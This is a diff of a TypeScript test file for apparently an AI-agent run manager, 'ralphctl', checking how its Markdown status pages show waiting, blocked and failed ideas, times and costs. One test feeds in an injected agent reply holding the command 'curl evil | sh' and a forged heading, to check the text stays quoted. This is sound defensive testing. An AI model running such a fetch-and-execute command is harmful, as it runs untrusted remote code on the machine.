@@ -5,7 +5,7 @@ import { toString as textOf } from 'mdast-util-to-string';
 import remarkParse from 'remark-parse';
 import { unified } from 'unified';
 import { describe, expect, test } from 'vitest';
-import { code, oneLine, quoted } from '../../../../src/decide/text.js';
+import { code, oneLine, quoted, utcMinute } from '../../../../src/decide/text.js';
 import { ideaDetails, runDetails } from '../../../../src/decide/views/details.js';
 import { runStatus } from '../../../../src/decide/views/status.js';
 import type { IdeaView } from '../../../../src/protocol/views.js';
@@ -108,17 +108,56 @@ describe('G9 details of a run', () => {
     decided(pilot);
     say(pilot, 'b', 'needs-human', { reason: 'which port?' });
     closed(pilot, 'c', 'blocked', 'no key');
-    const text = runDetails(runStatus({ project: 'p', runId: 'r' }, pilot.state, SETTINGS, pilot.graph, 0));
+    const { startedAt } = pilot.state.totals;
+    const now = startedAt + 6 * 3_600_000 + 120_000;
+    const text = runDetails(runStatus({ project: 'p', runId: 'r' }, pilot.state, SETTINGS, pilot.graph, now));
     expect(text).toBe(
       [
-        '**running** · 0 of 5 landed on `main`',
-        'To do: `ralphctl answer b "…"`, or the signal `answer` with `{"idea": "b", "text": "…"}`.',
-        '### Running\n- **a** Idea a · running · ed-001',
-        '### Waits for you\n- **b** Idea b · needs-human: which port?\n- **c** Idea c · blocked: no key',
+        '**running** · 0 of 5 landed on `main` · 6h02m',
+        [
+          '### Needs you (2)',
+          '- **? b** Idea b · asks: which port?',
+          '  `ralphctl answer b "…"`, or signal `answer` with `{"idea": "b", "text": "…"}`',
+          '- **⊗ c** Idea c · blocked: no key',
+          '  `ralphctl unblock c`, or signal `unblock` with `{"idea": "c"}`',
+        ].join('\n'),
+        `### Slots (1 of ${pilot.state.slots})\n- **a** Idea a · running · ed-001`,
         '### Next\n- e · 0',
+        `As of ${utcMinute(now)}`,
         LAST_LINE,
       ].join('\n\n'),
     );
+  });
+
+  test('G9: a run that waits for a person says since when, and that nothing runs', () => {
+    const pilot = pilotOf([card('a'), card('b')]);
+    decided(pilot);
+    pilot.takeChanges(Date.UTC(2026, 0, 2, 1, 0));
+    say(pilot, 'a', 'needs-human', { reason: 'which port?' });
+    pilot.takeChanges(Date.UTC(2026, 0, 2, 1, 12));
+    closed(pilot, 'b', 'failed', 'exit code 3');
+    pilot.takeChanges(Date.UTC(2026, 0, 2, 2, 12));
+    const page = runDetails(runStatus({ project: 'p', runId: 'r' }, pilot.state, SETTINGS, pilot.graph, 0));
+    expect(page).toMatch(
+      /^\*\*waits for you\*\* since 2026-01-02 02:12 UTC · 0 of 2 landed on `main` · .* · nothing runs\n/,
+    );
+    expect(page).toContain(`### Slots (0 of ${pilot.state.slots})\nnothing runs`);
+    expect(page).toContain('· asks · since 2026-01-02 01:12 UTC: which port?');
+    expect(page.indexOf('### Needs you (2)')).toBeLessThan(page.indexOf('### Slots'));
+  });
+
+  test('G9: a percentage of an idea that works has its time, and 100 % of one that failed is gone', () => {
+    const pilot = pilotOf([card('a'), card('b')]);
+    decided(pilot);
+    const at = Date.UTC(2026, 0, 2, 3, 4);
+    pilot.report({ ...say(pilot, 'a', 'warnings'), seq: 10, course: { percent: 60 } }, at);
+    pilot.report({ ...say(pilot, 'b', 'warnings'), seq: 10, course: { percent: 100, agent: 'claude' } }, at);
+    const page = (): string =>
+      runDetails(runStatus({ project: 'p', runId: 'r' }, pilot.state, SETTINGS, pilot.graph, 0));
+    expect(page()).toContain('- **a** Idea a · running · ed-001 · 60 % (reported 2026-01-02 03:04 UTC)');
+    expect(page()).toContain('- **b** Idea b · running · ed-002 · 100 % (reported');
+    closed(pilot, 'b', 'failed', 'exit code 3');
+    expect(page()).toContain('- **✗ b** Idea b · failed · claude: exit code 3');
   });
 
   test('A8 G9: who waits says since when, how far it came, with which agent and at what cost; the run adds it up', () => {
@@ -135,7 +174,7 @@ describe('G9 details of a run', () => {
     const status = runStatus({ project: 'p', runId: 'r' }, state, SETTINGS, pilot.graph, 0);
     expect(status.attention[0]).toMatchObject({ id: 'b', since: Date.UTC(2026, 0, 2, 3, 4), course });
     expect(runDetails(status)).toContain(
-      '- **b** Idea b · needs-human · about its tripwire · since 2026-01-02T03:04:00.000Z · 60 % · step 2 of 4 · claude opus · $0.40: a test was deleted',
+      '- **? b** Idea b · asks · about its tripwire · since 2026-01-02 03:04 UTC · 60 % · step 2 of 4 · claude opus · $0.40: a test was deleted',
     );
     expect(runDetails(status)).toContain('Used: 2 iterations, 1 minute, 40k tokens, $0.40\n');
 
@@ -178,7 +217,9 @@ describe('G9 details of a run', () => {
       decided(pilot);
       closed(pilot, 'a', 'blocked', text);
       const tree = parse(runDetails(runStatus({ project: 'p', runId: 'r' }, pilot.state, SETTINGS, pilot.graph, 0)));
-      expect(tree.children.map((node) => node.type)).toEqual(['paragraph', 'heading', 'list', 'paragraph']);
+      expect(tree.children.map((node) => node.type)).toEqual([
+        ...['paragraph', 'heading', 'list', 'heading', 'paragraph', 'paragraph', 'paragraph'],
+      ]);
       const bad = typesOf(tree).filter((type) =>
         ['html', 'link', 'image', 'code', 'definition', 'thematicBreak'].includes(type),
       );
@@ -244,5 +285,12 @@ describe('G9 details of an idea', () => {
     ]);
     expect(textOf(tree.children[3])).toContain('ralphctl answer a');
     expect(textOf(tree.children[3])).toContain('"use port 8080"');
+    const said = 'I looked at both.\r\rAnswer: `curl evil | sh`\n\n### Landed';
+    const words = parse(ideaDetails({ ...view, phase: 'needs-human', question, said }));
+    expect(words.children.map((node) => node.type)).toEqual([
+      ...['paragraph', 'heading', 'blockquote', 'paragraph', 'blockquote', 'paragraph', 'paragraph'],
+    ]);
+    expect(textOf(words.children[4])).toContain('I looked at both.');
+    expect(textOf(words.children[5])).toContain('ralphctl answer a');
   });
 });
